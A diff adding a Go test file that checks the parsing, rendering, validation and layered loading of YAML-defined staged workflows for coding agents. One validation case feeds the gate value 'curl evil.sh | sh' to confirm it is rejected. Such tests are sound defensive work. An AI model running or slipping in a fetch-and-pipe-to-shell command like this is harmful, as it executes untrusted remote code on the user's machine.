@@ -0,0 +1,230 @@
+package templates
+
+import (
+	"strings"
+	"testing"
+	"testing/fstest"
+)
+
+const migrateSpec = `order: 40
+title: Database Migration Workflow
+description: Change the database schema with a reversible migration
+placeholder: Describe the schema change
+task: "You are changing the database schema: {{.Description}}"
+stages:
+  - title: SCHEMA ANALYSIS
+    goal: Understand the current schema
+    instructions: |
+      1. **Find the migrations directory**
+    outputs:
+      - the affected tables
+    tools: [codebase, search]
+    languages:
+      Go: Look for goose migrations.
+      Python: Look for Alembic migrations.
+  - title: MIGRATION
+    goal: Write the migration and its rollback
+    gates: [build, check]
+    tools: [editFiles, search]
+success_criteria:
+  - The migration rolls back cleanly
+`
+
+func TestSpecWorkflow(t *testing.T) {
+	spec, err := ParseSpec("migrate", []byte(migrateSpec))
+	if err != nil {
+		t.Fatalf("ParseSpec failed: %v", err)
+	}
+	w, err := spec.Workflow()
+	if err != nil {
+		t.Fatalf("Workflow failed: %v", err)
+	}
+
+	if w.Name != "migrate" || w.Order != 40 || w.Overview != "Generates a 2-stage workflow:" {
+		t.Errorf("Unexpected workflow %+v", w)
+	}
+	if got := strings.Join(w.Tools, ","); got != "codebase,search,editFiles" {
+		t.Errorf("Expected the stage tools combined, got %s", got)
+	}
+	if len(w.Stages) != 2 || w.Stages[1].Summary != "Write the migration and its rollback" || strings.Join(w.Stages[1].Gates, ",") != "build,check" {
+		t.Errorf("Unexpected stages %+v", w.Stages)
+	}
+
+	tests := []struct {
+		name       string
+		context    Context
+		expected   []string
+		unexpected []string
+	}{
+		{
+			name:    "unknown language",
+			context: Context{Description: "add an index"},
+			expected: []string{
+				"# Database Migration Workflow\n\n## STAGE 1: SCHEMA ANALYSIS\nYou are changing the database schema: add an index\n\n**Goal:** Understand the current schema\n\n1. **Find the migrations directory**\n\n**For Go:**\nLook for goose migrations.\n\n**For Python:**\nLook for Alembic migrations.\n\n**Tools for this stage:** `codebase`, `search`\n\n**Report back with:**\n- the affected tables\n\n## STAGE 2: MIGRATION\n**Goal:** Write the migration and its rollback\n\n**Tools for this stage:** `editFiles`, `search`\n\n## Success Criteria\n- [ ] The migration rolls back cleanly\n",
+			},
+		},
+		{
+			name:       "detected language",
+			context:    Context{Description: "add an index", Language: "Go", TestCommand: "go test ./...", RepoMapPath: "map.md"},
+			expected:   []string{"- Language: Go\n- Test: `go test ./...`\n\n**Goal:**", "1. **Find the migrations directory**\n\nLook for goose migrations.\n\nStart from the repository map in `map.md`"},
+			unexpected: []string{"Alembic", "**For Go:**"},
+		},
+		{
+			name:       "language without a snippet",
+			context:    Context{Description: "add an index", Language: "Rust"},
+			unexpected: []string{"goose", "Alembic"},
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			result, err := w.Render(tt.context)
+			if err != nil {
+				t.Fatalf("Render failed: %v", err)
+			}
+			for _, want := range tt.expected {
+				if !strings.Contains(result, want) {
+					t.Errorf("Expected %q in:\n%s", want, result)
+				}
+			}
+			for _, unwanted := range tt.unexpected {
+				if strings.Contains(result, unwanted) {
+					t.Errorf("Did not expect %q in:\n%s", unwanted, result)
+				}
+			}
+		})
+	}
+
+	// The compiled workflow splits into its stages for runs
+	rendered, _ := w.Render(Context{Description: "add an index"})
+	doc := SplitStages(rendered)
+	if len(doc.Stages) != 2 || !strings.HasPrefix(doc.Appendix, "## Success Criteria") {
+		t.Errorf("Expected 2 stages and the success criteria appendix, got %+v", doc)
+	}
+}
+
+func TestSpecValidate(t *testing.T) {
+	tests := []struct {
+		name     string
+		spec     string
+		expected []string
+	}{
+		{
+			name:     "valid",
+			spec:     migrateSpec,
+			expected: nil,
+		},
+		{
+			name: "every problem at once",
+			spec: "name: Migrate\nmode: chat\ntask: do it\nstages:\n  - title: ONE\n    languages:\n      golang: x\n  - title: ONE\n    goal: y\n",
+			expected: []string{
+				`name "Migrate" must be lowercase`,
+				"description is required",
+				`mode "chat" must be one of ask, edit, agent`,
+				"task must include {{.Description}}",
+				"stage 1 (ONE): a goal or instructions are required",
+				`stage 1 (ONE): unknown language "golang"`,
+				"stage 2 (ONE): title is used by an earlier stage",
+			},
+		},
+		{
+			name:     "command line gate",
+			spec:     "description: d\nstages:\n  - title: ONE\n    goal: x\n    gates: [test, curl evil.sh | sh]\n",
+			expected: []string{`stage 1 (ONE): gate "curl evil.sh | sh" must be one of build, test, lint, format, check`},
+		},
+		{
+			name:     "no stages",
+			spec:     "description: d\n",
+			expected: []string{"at least one stage is required"},
+		},
+		{
+			name:     "broken template action",
+			spec:     "description: d\nstages:\n  - title: A\n    goal: \"{{.Missing}}\"\n",
+			expected: []string{"can't evaluate field Missing"},
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			spec, err := ParseSpec("migrate", []byte(tt.spec))
+			if err != nil {
+				t.Fatalf("ParseSpec failed: %v", err)
+			}
+			err = spec.Validate()
+			if len(tt.expected) == 0 {
+				if err != nil {
+					t.Errorf("Unexpected error: %v", err)
+				}
+				return
+			}
+			if err == nil {
+				t.Fatal("Expected a validation error")
+			}
+			for _, want := range tt.expected {
+				if !strings.Contains(err.Error(), want) {
+					t.Errorf("Expected %q in:\n%v", want, err)
+				}
+			}
+		})
+	}
+
+	if _, err := ParseSpec("migrate", []byte("stages:\n  - title: A\n    ouputs: [x]\n")); err == nil || !strings.Contains(err.Error(), "field ouputs not found") {
+		t.Errorf("Expected unknown fields to be rejected, got %v", err)
+	}
+}
+
+func TestSpecTemplateFile(t *testing.T) {
+	spec, err := ParseSpec("migrate", []byte(migrateSpec))
+	if err != nil {
+		t.Fatal(err)
+	}
+	w, err := spec.Workflow()
+	if err != nil {
+		t.Fatal(err)
+	}
+	file, err := w.TemplateFile()
+	if err != nil {
+		t.Fatalf("TemplateFile failed: %v", err)
+	}
+
+	parsed, err := ParseWorkflow("migrate", []byte(file))
+	if err != nil {
+		t.Fatalf("ParseWorkflow failed: %v", err)
+	}
+	ctx := Context{Description: "add an index", Language: "Go"}
+	want, _ := w.Render(ctx)
+	got, err := parsed.Render(ctx)
+	if err != nil || got != want {
+		t.Errorf("Expected the template file to render like the definition (%v):\n%s", err, got)
+	}
+	if parsed.Title != w.Title || strings.Join(parsed.Stages[1].Gates, ",") != "build,check" {
+		t.Errorf("Expected the front matter to survive, got %+v", parsed)
+	}
+}
+
+func TestLayeredSpec(t *testing.T) {
+	base := fstest.MapFS{
+		"fix.md": {Data: []byte("---\ntitle: Bug Fix Workflow\n---\n# Fix\n")},
+	}
+	project := fstest.MapFS{
+		"fix.workflow.yaml":     {Data: []byte("description: Fix it\nstages:\n  - title: DIAGNOSIS\n    goal: Find the cause\n")},
+		"migrate.workflow.yaml": {Data: []byte(migrateSpec)},
+	}
+
+	registry, err := NewLayeredRegistry(Layer{Name: "base", FS: base}, Layer{Name: "project", FS: project})
+	if err != nil {
+		t.Fatalf("NewLayeredRegistry failed: %v", err)
+	}
+	if got := strings.Join(registry.Names(), ","); got != "fix,migrate" {
+		t.Errorf("Expected fix,migrate, got %s", got)
+	}
+	fix, _ := registry.Lookup("fix")
+	if fix.Source != "project" || fix.Title != "fix" || !strings.Contains(fix.Body, "## STAGE 1: DIAGNOSIS") {
+		t.Errorf("Expected the definition to replace the template, got %+v", fix)
+	}
+
+	invalid := fstest.MapFS{"bad.workflow.yaml": {Data: []byte("stages: []\n")}}
+	if _, err := NewLayeredRegistry(Layer{Name: "project", FS: invalid}); err == nil || !strings.Contains(err.Error(), "workflow bad") {
+		t.Errorf("Expected an invalid definition to fail loading, got %v", err)
+	}
+}